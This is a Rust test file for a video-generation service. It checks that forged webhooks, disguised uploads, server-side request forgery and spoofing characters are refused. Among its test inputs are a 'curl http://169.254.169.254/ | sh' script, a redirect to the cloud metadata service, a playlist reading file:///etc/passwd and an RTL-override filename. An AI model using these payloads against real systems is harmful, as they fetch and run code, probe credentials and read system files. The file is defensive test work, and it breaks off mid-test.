//! Attacks on the deployment, each refused (issue 10): forged or oversized
//! provider callbacks, uploads that are not images, switched-on faults,
//! capability URLs in logs, inward image URLs, format characters; and (issue
//! 20) guessed prompts against idempotency fingerprints, file link signatures
//! posted as callbacks, fal turned on without our account pinned, revoked
//! demo keys brought back by a restart.

use crate::harness::{settings, work_message, Page, Payload, Reply, TestApp};
use lambda_http::http::StatusCode;
use serde_json::json;
use videojobs_core::model::notification::LoopbackPorts;
use videojobs_core::model::signing::WebhookSecret;
use videojobs_core::JobStatus;
use wiremock::matchers::any;
use wiremock::{Mock, MockServer, ResponseTemplate};

/// A user on the shared stack whose webhook trusts the local provider's `secret`.
async fn app_trusting(secret: &str) -> TestApp {
    TestApp::builder()
        .provider_env([("LOCAL_PROVIDER_URL", "http://127.0.0.1:9"), ("LOCAL_PROVIDER_WEBHOOK_SECRETS", secret)])
        .build()
        .await
}

/// A callback to the local provider's webhook, as an attacker sends it.
async fn callback(app: &TestApp, timestamp: &str, signature: &str, body: Vec<u8>) -> Reply {
    let headers = [("webhook-id", "evt_attack"), ("webhook-timestamp", timestamp), ("webhook-signature", signature)];
    app.anonymous().provider_callback("local", &headers, Payload::Bytes { content_type: "application/json", bytes: body }).await
}

#[tokio::test]
async fn a_webhook_timestamp_of_i64_min_or_any_other_non_integer_is_401_not_a_panic() {
    let secret = WebhookSecret::generate_text();
    let app = app_trusting(&secret).await;
    let body = br#"{"id":"lp_x","status":"processing","progress":10}"#.to_vec();
    let key = WebhookSecret::parse(&secret).unwrap();
    // Signed with the right secret: only the timestamp is wrong.
    let signature = key.sign("evt_attack", 0, &body);

    for timestamp in ["-9223372036854775808", "9223372036854775807", "-1", "1e9", "+5", "0"] {
        let reply = callback(&app, timestamp, &signature, body.clone()).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{timestamp}: {}", reply.body);
        assert_eq!(reply.error_code(), "bad_signature");
    }
}

#[tokio::test]
async fn a_flood_of_big_callbacks_with_many_candidates_is_answered_fast() {
    let secret = WebhookSecret::generate_text();
    let app = app_trusting(&secret).await;
    let now = time::OffsetDateTime::now_utc().unix_timestamp().to_string();
    // The attack of the issue: 2 MiB, 500 candidates. Refused before any MAC.
    let candidates = vec!["v1,AAAA"; 500].join(" ");
    // The most a caller can make us do: the largest body, the most candidates, all forged.
    let forged = ["v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="; videojobs_core::model::signing::MAX_SIGNATURES].join(" ");

    let started = std::time::Instant::now();
    let reply = callback(&app, &now, &candidates, vec![b'x'; 2 * 1024 * 1024]).await;
    assert_eq!(reply.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", reply.body);
    // Under the body cap, 500 candidates are refused as such.
    let reply = callback(&app, &now, &candidates, vec![b'x'; 200 * 1024]).await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{}", reply.body);
    for _ in 0..20 {
        let reply = callback(&app, &now, &forged, vec![b'x'; videojobs_core::model::signing::MAX_BODY_BYTES]).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{}", reply.body);
    }
    // Was 24 s for one such request (over 8 minutes for these 22); they now
    // take well under a second in release, a few in debug. The bound is far
    // above what a starved debug build needs, and the old bug crosses it
    // within its first five such requests: it still catches that bug
    // without depending on the machine's speed.
    assert!(started.elapsed() < std::time::Duration::from_secs(120), "{:?}", started.elapsed());
}

#[tokio::test]
async fn an_upload_that_is_not_the_declared_image_is_refused_at_animate_and_costs_nothing() {
    let app = TestApp::new(100).await;
    let png = crate::harness::png(64, 48);
    let cases: Vec<(&str, Vec<u8>, StatusCode)> = vec![
        // The issue's attack: a shell script sent as a PNG.
        ("image/png", b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n".to_vec(), StatusCode::UNSUPPORTED_MEDIA_TYPE),
        // A real PNG declared as a JPEG.
        ("image/jpeg", png.clone(), StatusCode::UNSUPPORTED_MEDIA_TYPE),
        // A PNG too small to animate (its header says 8x8).
        ("image/png", crate::harness::png(8, 8), StatusCode::BAD_REQUEST),
    ];

    for (content_type, bytes, expected) in cases {
        let upload_id = app.upload(content_type, &bytes).await;
        let reply = app.animate(json!({"upload_id": upload_id})).await;
        assert_eq!(reply.status, expected, "{content_type}: {}", reply.body);
        assert_eq!(reply.body["error"]["field"], "upload_id", "{}", reply.body);
        assert!(reply.body["error"]["message"].as_str().unwrap_or("").contains("upload_id"), "{}", reply.body);
    }
    assert_eq!(app.credits().await, 100, "no credits were taken");
    assert_eq!(app.job_count().await, 0, "no job was written");
    // The real PNG, declared as one, is animated.
    let upload_id = app.upload("image/png", &png).await;
    let reply = app.animate(json!({"upload_id": upload_id})).await;
    assert_eq!(reply.status, StatusCode::ACCEPTED, "{}", reply.body);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_swapped_after_animate_never_reaches_the_provider() {
    // Arrange: a real PNG uploaded and animated.
    let app = TestApp::builder().with_local_provider().build().await;
    let png = crate::harness::png(320, 240);
    let slot = app.create_upload(json!({"content_type": "image/png", "size_bytes": png.len()})).await;
    assert_eq!(crate::harness::put_presigned(&slot.body, &png).await, 200);
    let reply = app.animate(json!({"upload_id": slot.body["upload_id"], "length": 1, "frame_rate": 12})).await;
    assert_eq!(reply.status, StatusCode::ACCEPTED, "{}", reply.body);
    let id = reply.job_id();

    // Act: the same, still valid, URL replaces the image with a script of the same length.
    let mut swapped = b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n".to_vec();
    swapped.resize(png.len(), b'#');
    assert_eq!(crate::harness::put_presigned(&slot.body, &swapped).await, 200, "the URL still takes a PUT");

    // Assert: the provider got the checked image, so the job completes; the upload holds the script.
    let job = app.wait_for(&id, 60, |s| !s.is_in_flight()).await;
    assert_eq!(job.status, JobStatus::Completed, "{:?}", job.error);
    let stack = app.stack();
    let read = |key: String| async move {
        let out = stack.clients.s3.get_object().bucket(&stack.resources.media_bucket).key(key).send().await.expect("object");
        out.body.collect().await.expect("bytes").into_bytes().to_vec()
    };
    assert_eq!(read(videojobs_core::ports::Upload::checked_key_for(&id)).await, png);
    let upload_key = format!("uploads/{}/{}", app.user, slot.body["upload_id"].as_str().unwrap());
    assert_eq!(read(upload_key).await, swapped);
}

/// Log lines written through the functions' own subscriber, kept for the test.
#[derive(Clone, Default)]
struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("the log buffer").extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn a_webhook_url_token_never_reaches_a_log_line_or_an_event() {
    let app = TestApp::builder().own_stack().build().await;
    // Nothing listens on port 1: the delivery fails, and reqwest's error names the URL.
    let url = "http://127.0.0.1:1/hooks/in?token=tok_LEAKME_0123456789";
    let body = json!({"prompt": "A kite over the dunes", "duration_seconds": 2, "resolution": "480p", "webhook_url": url});
    let id = app.new_job_with(&body).await;
    let captured = Captured::default();
    let sink = captured.clone();
    let dispatch = tracing::Dispatch::new(videojobs_aws::telemetry::subscriber(videojobs_aws::telemetry::Redacting(move || sink.clone())));

    {
        let _logging = tracing::dispatcher::set_default(&dispatch);
        assert_eq!(app.cancel_job(&id).await.status, StatusCode::OK);
        let (message, _) = crate::harness::next_message(&app, &id, "notify").await;
        app.handle_work(work_message(message)).await;
    }

    let logs = String::from_utf8(captured.0.lock().expect("the log buffer").clone()).expect("UTF-8 logs");
    assert!(logs.contains("notification request failed"), "the failed delivery was logged: {logs}");
    assert!(logs.contains("127.0.0.1:1"), "the endpoint is named by its host and port: {logs}");
    assert!(!logs.contains("LEAKME"), "the token reached the logs: {logs}");
    let events = app.job_events(&id).await;
    assert!(!events.body.to_string().contains("LEAKME"), "{}", events.body);
}

#[tokio::test]
async fn local_faults_are_a_400_where_the_deployment_has_not_turned_them_on() {
    let mut deployed = settings();
    deployed.limits.allow_fault_injection = false;
    let app = TestApp::builder().credits(100).settings(deployed).build().await;

    for faults in [json!({"duplicate_callbacks": 2000}), json!({"submit_errors": [422]}), json!({})] {
        let body = json!({"prompt": "A kite", "duration_seconds": 1, "metadata": {"local_faults": faults}});
        let reply = app.generate(&body).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
        assert_eq!(reply.body["error"]["field"], "metadata.local_faults", "{}", reply.body);
    }
    // Where they are on (the local stack), they are still bounded.
    let app = TestApp::new(100).await;
    let body = json!({"prompt": "A kite", "duration_seconds": 1, "metadata": {"local_faults": {"duplicate_callbacks": 2000}}});
    let reply = app.generate(&body).await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
    assert_eq!(reply.body["error"]["field"], "metadata.local_faults.duplicate_callbacks", "{}", reply.body);
    assert_eq!(app.credits().await, 100);
}

#[tokio::test]
async fn bidi_overrides_and_zero_width_characters_are_refused_in_prompts_notes_and_metadata() {
    let app = TestApp::new(100).await;
    let spoof = "invoice\u{202E}gpj.exe";

    for (body, field) in [
        (json!({"prompt": spoof}), "prompt"),
        (json!({"prompt": "A kite", "metadata": {"title": "zero\u{200B}width"}}), "metadata.title"),
        (json!({"prompt": "A kite", "metadata": {"tags": ["ok", "\u{2066}isolated"]}}), "metadata.tags"),
    ] {
        let reply = app.generate(&body).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
        assert_eq!(reply.body["error"]["field"], field, "{}", reply.body);
    }
    assert_eq!(app.job_count().await, 0);
    // A reviewer's note is refused the same way.
    let id = app.new_job(1).await;
    let (_, reviewer) = app.another_user(0, videojobs_core::model::ids::Role::Reviewer).await;
    let note = json!({"decision": "reject", "reason": "other", "note": format!("looks fine {spoof}")});
    let reply = app.as_key(&reviewer).review_job(&id, &note).await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
    assert_eq!(reply.body["error"]["field"], "note", "{}", reply.body);
}

#[tokio::test]
async fn an_image_url_whose_name_resolves_inward_is_refused_and_costs_nothing() {
    let mut deployed = settings();
    deployed.limits.loopback_webhook_ports = LoopbackPorts::NONE;
    deployed.limits.allow_http_webhooks = false;
    let app = TestApp::builder().credits(100).settings(deployed).on_the_stack().build().await;

    // `localhost` is no IP literal: only its resolved address tells.
    for url in ["https://localhost/cat.png", "https://LocalHost:8443/cat.png"] {
        let reply = app.animate(json!({"image_url": url})).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{url}: {}", reply.body);
        assert_eq!(reply.body["error"]["field"], "image_url", "{}", reply.body);
        assert!(reply.body["error"]["message"].as_str().unwrap_or("").contains("loopback"), "{}", reply.body);
    }
    assert_eq!(app.credits().await, 100);
    assert_eq!(app.job_count().await, 0);
}

/// An image host that answers every request with `answer`.
async fn image_host(answer: ResponseTemplate) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(any()).respond_with(answer).mount(&server).await;
    server
}

/// Asks the local provider for a video of `image_url` and returns its final prediction.
async fn provider_render(provider: &local_provider::Handle, image_url: &str) -> serde_json::Value {
    let client = reqwest::Client::new();
    let body = json!({"input": {"mode": "image", "image_url": image_url, "width": 64, "height": 64, "duration_seconds": 0.5}});
    let created: serde_json::Value = client
        .post(format!("{}/v1/predictions", provider.base_url))
        .json(&body)
        .send()
        .await
        .expect("submitted")
        .json()
        .await
        .expect("JSON");
    let id = created["id"].as_str().expect("a prediction id").to_owned();
    for _ in 0..150 {
        let now: serde_json::Value =
            client.get(format!("{}/v1/predictions/{id}", provider.base_url)).send().await.expect("read").json().await.expect("JSON");
        if now["status"] == "succeeded" || now["status"] == "failed" {
            return now;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    panic!("prediction {id} did not finish");
}

async fn spawn_provider(image_policy: videojobs_core::model::notification::WebhookPolicy) -> local_provider::Handle {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let dir = std::env::temp_dir().join(format!("videojobs-provider-{}", ulid::Ulid::new()));
    let secret = WebhookSecret::parse(&WebhookSecret::generate_text()).expect("a secret");
    local_provider::spawn(listener, local_provider::Config { dir, secret, image_policy, token: None }).expect("the provider starts")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_local_provider_fetches_images_only_from_allowed_addresses_never_redirected_and_bounded() {
    let png = crate::harness::png(64, 64);
    let image_server = image_host(ResponseTemplate::new(200).set_body_raw(png, "image/png")).await;
    let image_url = format!("{}/cat.png", image_server.uri());

    // As deployed: public addresses only (http allowed here so that the address is what is refused).
    // `localhost` is loopback once resolved.
    let deployed =
        spawn_provider(videojobs_core::model::notification::WebhookPolicy { allow_http: true, loopback: LoopbackPorts::NONE }).await;
    for url in [image_url.clone(), image_url.replace("127.0.0.1", "localhost")] {
        let prediction = provider_render(&deployed, &url).await;
        assert_eq!(prediction["status"], "failed", "{url}: {prediction}");
        let message = prediction["error"]["message"].as_str().unwrap_or("");
        assert!(message.contains("image not fetched") && message.contains("loopback"), "{message}");
    }

    // The local stack allows loopback: the image renders...
    let local = spawn_provider(videojobs_core::model::notification::WebhookPolicy {
        allow_http: true,
        loopback: LoopbackPorts::range(1, u16::MAX),
    })
    .await;
    assert_eq!(provider_render(&local, &image_url).await["status"], "succeeded");
    // ...but a redirect (here to the metadata service) is not followed...
    let redirecting = image_host(ResponseTemplate::new(302).insert_header("location", "http://169.254.169.254/latest/meta-data/")).await;
    let prediction = provider_render(&local, &format!("{}/cat.png", redirecting.uri())).await;
    assert_eq!(prediction["status"], "failed", "{prediction}");
    assert!(prediction["error"]["message"].as_str().unwrap_or("").contains("redirects are not followed"), "{prediction}");
    // ...an image over the cap is not read into memory...
    let huge = vec![0u8; local_provider::render::MAX_IMAGE_BYTES as usize + 1];
    let huge_server = image_host(ResponseTemplate::new(200).set_body_raw(huge, "image/png")).await;
    let prediction = provider_render(&local, &format!("{}/big.png", huge_server.uri())).await;
    assert!(prediction["error"]["message"].as_str().unwrap_or("").contains("over"), "{prediction}");
    // ...and bytes that are not an image never reach an ffmpeg demuxer.
    let playlist = b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n".to_vec();
    let playlist_server = image_host(ResponseTemplate::new(200).set_body_bytes(playlist)).await;
    let prediction = provider_render(&local, &format!("{}/cat.png", playlist_server.uri())).await;
    assert!(prediction["error"]["message"].as_str().unwrap_or("").contains("not a PNG, JPEG or WebP"), "{prediction}");
}

#[tokio::test]
async fn a_raw_prompt_expires_with_its_jobs_retention_and_the_kept_hash_is_keyed() {
    let app = TestApp::builder().credits(100).on_the_stack().build().await;
    let prompt = "A lighthouse at dawn";
    let before = time::OffsetDateTime::now_utc().unix_timestamp();

    let id = app.new_job_with(&json!({"prompt": prompt, "duration_seconds": 1})).await;

    let item = app
        .stack()
        .clients
        .dynamodb
        .get_item()
        .table_name(&app.stack().resources.prompts_table)
        .key("job_id", aws_sdk_dynamodb::types::AttributeValue::S(id.to_string()))
        .send()
        .await
        .expect("prompt read")
        .item
        .expect("the prompt item");
    let job = app.job(&id).await;

    let ttl: i64 = item.get("ttl_epoch").and_then(|v| v.as_n().ok()).and_then(|n| n.parse().ok()).expect("a TTL on the prompt");
    let settings = &app.services.settings;
    let window = (settings.generation_timeout_seconds + settings.retention_seconds) as i64;
    assert!((before + window..=before + window + 60).contains(&ttl), "ttl {ttl}, created about {before}");
    // The job keeps an HMAC under the deployment's key: the plain SHA-256 of a guess does not match it.
    assert_ne!(job.prompt_hash.as_deref(), Some(videojobs_core::model::request::sha256_hex(prompt.as_bytes()).as_str()));
    assert_eq!(job.prompt_hash, Some(videojobs_core::model::request::prompt_hash(&settings.prompt_hash_key, prompt)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admins_list_keys_without_secrets_revoke_one_and_it_is_401_at_once_and_expired_keys_are_401() {
    let app = TestApp::new(100).await;
    let (_, admin) = app.another_user(0, videojobs_core::model::ids::Role::Admin).await;
    let new_user = format!("ann-{}", ulid::Ulid::new().to_string().to_lowercase());
    let created = app.as_key(&admin).create_key(json!({"user_id": new_user, "role": "user", "expires_in_days": 30})).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let (secret, key_id) = (created.body["api_key"].as_str().unwrap().to_owned(), created.body["key_id"].as_str().unwrap().to_owned());
    assert!(key_id.starts_with("key_"), "{}", created.body);
    assert!(created.body["expires_at"].is_string(), "{}", created.body);
    assert_eq!(app.as_key(&secret).account().await.status, StatusCode::OK);

    // Listed by public id, never with the key or its hash.
    let mut listed = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let page = match &cursor {
            Some(c) => Page::of(100).after(c),
            None => Page::of(100),
        };
        let page = app.as_key(&admin).list_keys(page).await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
        let text = page.body.to_string();
        let hash = secret.parse::<videojobs_core::model::ids::ApiKey>().expect("a key").hash();
        assert!(!text.contains(&secret) && !text.contains(hash.as_str()), "a secret was listed");
        listed.extend(page.body["keys"].as_array().cloned().unwrap_or_default());
        match page.body["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    let entry = listed.iter().find(|k| k["key_id"] == key_id.as_str()).expect("the new key is listed");
    assert_eq!((entry["state"].as_str(), entry["user_id"].as_str()), (Some("active"), Some(new_user.as_str())));
    // A user may not list or revoke keys.
    assert_eq!(app.list_keys(Page::first()).await.status, StatusCode::FORBIDDEN);
    assert_eq!(app.revoke_key(&key_id).await.status, StatusCode::FORBIDDEN);

    // Revoked: the very next request is 401.
    let revoked = app.as_key(&admin).revoke_key(&key_id).await;
    assert_eq!(revoked.status, StatusCode::OK, "{}", revoked.body);
    assert_eq!(revoked.body["state"], "revoked");
    let refused = app.as_key(&secret).account().await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED, "{}", refused.body);
    let refused = app.as_key(&secret).generate(r#"{"prompt":"A kite"}"#).await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED, "{}", refused.body);
    assert_eq!(app.as_key(&admin).revoke_key("key_nope").await.status, StatusCode::NOT_FOUND);

    // A key past its expiry is 401 too.
    let expired = videojobs_core::model::ids::ApiKey::generate();
    let now = time::OffsetDateTime::now_utc();
    let principal = videojobs_core::ports::Principal { user_id: app.user.clone(), role: videojobs_core::model::ids::Role::User };
    let record =
        videojobs_core::ports::KeyRecord::new(principal, "expired", now - time::Duration::days(2), Some(now - time::Duration::seconds(1)));
    app.services.keys.save_key_record(&expired.hash(), &record).await.expect("saved");
    assert_eq!(app.as_key(expired.expose()).account().await.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_creates_lists_and_revokes_keys() {
    let app = TestApp::new(100).await;
    let (_, admin) = app.another_user(0, videojobs_core::model::ids::Role::Admin).await;
    let user = format!("bo-{}", ulid::Ulid::new().to_string().to_lowercase());

    let created = app.videojobs(&admin, &["admin", "create-key", "--user-id", &user, "--expires-in-days", "7"]).await;
    assert_eq!(created.code, 0, "{}", created.err);
    let secret = created.out.trim().to_owned();
    let key_id = created
        .err
        .split_whitespace()
        .find(|w| w.trim_matches(|c| c == '(' || c == ')' || c == '.').starts_with("key_"))
        .expect("the key id is said")
        .trim_matches(|c| c == '(' || c == ')' || c == '.')
        .to_owned();
    let listed = app.videojobs(&admin, &["--json", "admin", "list-keys", "--limit", "100"]).await;
    let revoked = app.videojobs(&admin, &["admin", "revoke-key", &key_id]).await;

    assert!(created.err.contains("expires at"), "{}", created.err);
    assert_eq!(listed.code, 0, "{}", listed.err);
    assert!(!listed.out.contains(&secret), "the listing shows no secret");
    assert_eq!(revoked.code, 0, "{}", revoked.err);
    assert!(revoked.out.contains("revoked"), "{}", revoked.out);
    assert_eq!(app.as_key(&secret).account().await.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn each_key_is_rate_limited_on_requests_and_on_creates_with_retry_after_and_ratelimit_headers() {
    let mut limited = settings();
    limited.rate_limits = videojobs_core::model::ratelimit::RateLimits { requests_per_minute: 8, creates_per_minute: 2 };
    let app = TestApp::builder().credits(100).settings(limited).build().await;
    let (_, other) = app.another_user(100, videojobs_core::model::ids::Role::User).await;
    // The limits count per minute of the service's clock (`authenticate_for`
    // reads `timestamp::now`, that is `determinism::now`). Pinned for the
    // test at the start of a minute, the window cannot turn over mid-test
    // however slowly the machine runs it (the requests are handled on this
    // thread: a current-thread runtime). The minute is an hour ahead, so
    // that the in-memory world's TTL sweep, which follows the system's
    // clock, cannot remove the window's counts either.
    let minute = (time::OffsetDateTime::now_utc().unix_timestamp() / 60 + 60) * 60;
    let pinned = time::OffsetDateTime::from_unix_timestamp(minute).expect("a time");
    let seed = time::OffsetDateTime::now_utc().unix_timestamp_nanos() as u64;
    let _clock = videojobs_core::model::determinism::simulate(pinned, seed);
    let create = json!({"prompt": "A kite", "duration_seconds": 1});

    assert_eq!(app.generate(&create).await.status, StatusCode::ACCEPTED);
    assert_eq!(app.generate(&create).await.status, StatusCode::ACCEPTED);
    let third = app.generate(&create).await;
    assert_eq!(third.status, StatusCode::TOO_MANY_REQUESTS, "{}", third.body);
    assert_eq!(third.error_code(), "rate_limited");
    let retry: u64 = third.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&retry), "{retry}");
    assert_eq!(third.headers["ratelimit-policy"], "\"creates\";q=2;w=60");
    assert_eq!(third.headers["ratelimit"].to_str().unwrap(), format!("\"creates\";r=0;t={retry}"));
    assert_eq!(app.credits().await, 98, "the refused create took nothing");
    // Reads still pass until the request limit (8: 3 creates so far).
    for _ in 0..5 {
        assert_eq!(app.account().await.status, StatusCode::OK);
    }
    let over = app.account().await;
    assert_eq!(over.status, StatusCode::TOO_MANY_REQUESTS, "{}", over.body);
    assert_eq!(over.headers["ratelimit-policy"], "\"requests\";q=8;w=60");
    // Another key has its own budget.
    assert_eq!(app.as_key(&other).account().await.status, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_local_provider_takes_a_token_from_the_worker_and_serves_files_only_through_links_that_expire() {
    let token = "tok-0123456789abcdef-local".to_owned();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let dir = std::env::temp_dir().join(format!("videojobs-provider-{}", ulid::Ulid::new()));
    let secret_text = WebhookSecret::generate_text();
    let secret = WebhookSecret::parse(&secret_text).expect("a secret");
    let config = local_provider::Config { token: Some(token.clone()), ..local_provider::Config::local(dir, secret) };
    let provider = local_provider::spawn(listener, config).expect("the provider starts");
    let client = reqwest::Client::new();
    let body = json!({"input": {"mode": "text", "prompt": "A kite", "width": 64, "height": 64, "duration_seconds": 0.5}});

    // Without the token: nothing is accepted, listed or configured.
    for (method, path) in [("POST", "/v1/predictions"), ("GET", "/v1/stats"), ("POST", "/v1/faults"), ("GET", "/v1/predictions/lp_x")] {
        let request = client.request(method.parse().unwrap(), format!("{}{path}", provider.base_url)).json(&body);
        assert_eq!(request.send().await.expect("answered").status(), 401, "{method} {path}");
    }
    let wrong = client.get(format!("{}/v1/stats", provider.base_url)).bearer_auth("tok-wrong").send().await.expect("answered");
    assert_eq!(wrong.status(), 401);

    // The worker's adapter sends it (LOCAL_PROVIDER_TOKEN).
    let lookup = |name: &str| match name {
        "LOCAL_PROVIDER_URL" => Some(provider.base_url.clone()),
        "LOCAL_PROVIDER_WEBHOOK_SECRETS" => Some(secret_text.clone()),
        "LOCAL_PROVIDER_TOKEN" => Some(token.clone()),
        _ => None,
    };
    let providers = videojobs_providers::from_lookup(lookup, videojobs_providers::http_client()).expect("providers");
    let local = providers.get("local").expect("the local provider");
    let request = videojobs_core::model::provider::SubmitRequest {
        idempotency_key: "job_token_test".into(),
        params: videojobs_core::model::job::JobParams::TextToVideo {
            duration_seconds: 1,
            aspect_ratio: videojobs_core::model::request::AspectRatio::Square,
            resolution: videojobs_core::model::request::Resolution::Sd,
        },
        prompt: Some("A kite".into()),
        image_url: None,
        callback_url: "http://127.0.0.1:9/webhooks/local".into(),
        faults: None,
        seed: None,
    };
    let id = local.submit(&request).await.expect("submitted with the token");
    let output = loop {
        match local.poll(&id).await.expect("polled with the token") {
            videojobs_core::model::provider::ProviderStatus::Succeeded(output) => break output,
            videojobs_core::model::provider::ProviderStatus::Failed { message, .. } => panic!("render failed: {message}"),
            _ => tokio::time::sleep(std::time::Duration::from_millis(200)).await,
        }
    };

    // The link the prediction gives works; the bare path, a tampered or a stretched expiry do not.
    assert!(output.video_url.contains("expires=") && output.video_url.contains("sig="), "{}", output.video_url);
    assert_eq!(client.get(&output.video_url).send().await.expect("answered").status(), 200);
    let bare = output.video_url.split('?').next().unwrap().to_owned();
    assert_eq!(client.get(&bare).send().await.expect("answered").status(), 403);
    let expires: i64 = output.video_url.split("expires=").nth(1).unwrap().split('&').next().unwrap().parse().unwrap();
    let stretched = output.video_url.replace(&format!("expires={expires}"), &format!("expires={}", expires + 86_400));
    assert_eq!(client.get(&stretched).send().await.expect("answered").status(), 403);
    let other_file = output.video_url.replace("video.mp4", "thumbnail.jpg");
    assert_eq!(client.get(&other_file).send().await.expect("answered").status(), 403, "a link is good for its own file only");
}

/// The idempotency record of `key` for the app's user, as someone who can read the jobs table sees it.
async fn idempotency_item(app: &TestApp, key: &str) -> std::collections::HashMap<String, aws_sdk_dynamodb::types::AttributeValue> {
    use aws_sdk_dynamodb::types::AttributeValue;
    app.stack()
        .clients
        .dynamodb
        .get_item()
        .table_name(&app.stack().resources.jobs_table)
        .key("pk", AttributeValue::S(format!("IDEM#{}#{key}", app.user)))
        .key("sk", AttributeValue::S("IDEM".into()))
        .consistent_read(true)
        .send()
        .await
        .expect("idempotency record read")
        .item
        .expect("the idempotency record")
}

/// What the idempotency record used to keep: the plain SHA-256 of the route and the canonical body.
fn unkeyed_fingerprint(route: &str, body: &str) -> String {
    let canonical = serde_json::from_str::<serde_json::Value>(body).expect("JSON").to_string();
    videojobs_core::model::request::sha256_hex(format!("{route}\0{canonical}").as_bytes())
}

#[tokio::test]
async fn a_guessed_prompt_cannot_be_confirmed_from_the_idempotency_records_fingerprint() {
    let app = TestApp::builder().credits(100).on_the_stack().build().await;
    let key = format!("order-{}", ulid::Ulid::new());
    let headers = [("idempotency-key", key.as_str())];
    let body = r#"{"prompt":"A lighthouse at dawn","duration_seconds":1}"#;
    let first = app.with_headers(&headers).generate(body).await;
    assert_eq!(first.status, StatusCode::ACCEPTED, "{}", first.body);

    // The reader of the jobs table guesses the prompt and hashes the guess as the record was made.
    let item = idempotency_item(&app, &key).await;
    let stored = item.get("fingerprint").and_then(|v| v.as_s().ok()).expect("a fingerprint").clone();
    assert_ne!(stored, unkeyed_fingerprint("generate", body), "the fingerprint is the plain SHA-256 of the guessed body");
    assert_ne!(stored, videojobs_core::model::request::sha256_hex(body.as_bytes()));
    assert!(!item.values().any(|v| v.as_s().is_ok_and(|s| s.contains("lighthouse"))), "no prompt on the record");

    // The same key and body still replay the first answer; another body is still a conflict.
    let again = app.with_headers(&headers).generate(r#"{ "duration_seconds": 1, "prompt": "A lighthouse at dawn" }"#).await;
    assert_eq!(again.status, StatusCode::ACCEPTED, "{}", again.body);
    assert_eq!(again.body, first.body);
    assert_eq!(again.headers.get("idempotent-replayed").map(|v| v.to_str().unwrap()), Some("true"));
    let other = app.with_headers(&headers).generate(r#"{"prompt":"A lighthouse at dusk","duration_seconds":1}"#).await;
    assert_eq!(other.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", other.body);
    assert_eq!(other.error_code(), "idempotency_conflict");
    assert_eq!(app.job_count().await, 1);
}

#[tokio::test]
async fn an_idempotency_record_written_before_the_fingerprint_was_keyed_still_replays() {
    use aws_sdk_dynamodb::types::AttributeValue;
    let app = TestApp::builder().credits(100).on_the_stack().build().await;
    let key = format!("order-{}", ulid::Ulid::new());
    let headers = [("idempotency-key", key.as_str())];
    let body = r#"{"prompt":"A kite over the dunes","duration_seconds":1}"#;
    let first = app.with_headers(&headers).generate(body).await;
    assert_eq!(first.status, StatusCode::ACCEPTED, "{}", first.body);
    // The record as the code before the change wrote it.
    app.stack()
        .clients
        .dynamodb
        .update_item()
        .table_name(&app.stack().resources.jobs_table)
        .key("pk", AttributeValue::S(format!("IDEM#{}#{key}", app.user)))
        .key("sk", AttributeValue::S("IDEM".into()))
        .update_expression("SET fingerprint = :f")
        .expression_attribute_values(":f", AttributeValue::S(unkeyed_fingerprint("generate", body)))
        .send()
        .await
        .expect("the record rewritten");

    let again = app.with_headers(&headers).generate(body).await;
    let other = app.with_headers(&headers).generate(r#"{"prompt":"A kite over the sea","duration_seconds":1}"#).await;

    assert_eq!(again.status, StatusCode::ACCEPTED, "{}", again.body);
    assert_eq!(again.body, first.body);
    assert_eq!(other.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", other.body);
    assert_eq!(app.job_count().await, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_links_signature_from_the_local_provider_does_not_pass_as_its_callback() {
    let token = "tok-0123456789abcdef-links".to_owned();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let dir = std::env::temp_dir().join(format!("videojobs-provider-{}", ulid::Ulid::new()));
    let secret_text = WebhookSecret::generate_text();
    let config = local_provider::Config {
        token: Some(token.clone()),
        ..local_provider::Config::local(dir, WebhookSecret::parse(&secret_text).expect("a secret"))
    };
    let provider = local_provider::spawn(listener, config).expect("the provider starts");
    // The webhook trusts the provider's callback secret.
    let app = app_trusting(&secret_text).await;
    // A finished prediction's links, as anyone who sees a job's provider output does.
